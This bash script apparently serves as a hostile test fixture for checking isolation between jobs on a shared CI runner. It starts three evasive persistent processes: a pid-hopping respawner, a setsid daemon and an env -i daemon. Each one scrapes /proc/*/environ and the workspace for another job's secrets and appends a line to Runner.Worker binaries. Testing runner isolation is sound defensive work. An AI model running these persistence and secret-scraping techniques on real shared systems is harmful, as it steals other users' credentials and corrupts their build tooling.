#!/bin/bash
# A hostile job leaves three processes behind to rob the next job in this sandbox: one that
# changes its pid every 50 ms, a setsid double-forked daemon, and an `env -i` daemon with no
# trace of the job in its environment. Each beats a heartbeat, steals what looks like the next
# job's secrets, and tampers with any runner binary it finds.
W=$(dirname "$(dirname "$HOME")")
LOOP="
  echo \"\$(date +%s%3N)\" >> '$EXFIL'/heartbeat-\$KIND
  grep -aoh 'NEXT_JOB_SECRET_[0-9a-f]*' /proc/[0-9]*/environ 2>/dev/null >> '$EXFIL'/stolen
  grep -raoh 'NEXT_JOB_SECRET_[0-9a-f]*' '$W' 2>/dev/null >> '$EXFIL'/stolen
  for f in '$W'/*/runner/bin/Runner.Worker; do [ -f \"\$f\" ] && echo '# tampered' >> \"\$f\"; done
"
cat > "$W/.hop.sh" <<HOP
#!/bin/bash
KIND=hopper
$LOOP
sleep 0.05
bash '$W/.hop.sh' &
exit 0
HOP
cp "$W/.hop.sh" "$EXFIL/hop.sh"
sed -i "s#bash '$W/.hop.sh'#bash '$EXFIL/hop.sh'#" "$EXFIL/hop.sh"
bash "$EXFIL/hop.sh" &
( setsid bash -c "KIND=setsid; while :; do $LOOP sleep 0.05; done" </dev/null >/dev/null 2>&1 & ) &
( setsid env -i /bin/bash -c "KIND=envi; while :; do $LOOP sleep 0.05; done" </dev/null >/dev/null 2>&1 & ) &
# Leave only once all three beat, so the test knows each one was alive.
for i in $(seq 1 200); do
  [ -s "$EXFIL/heartbeat-hopper" ] && [ -s "$EXFIL/heartbeat-setsid" ] && [ -s "$EXFIL/heartbeat-envi" ] && break
  sleep 0.05
done
exit 0
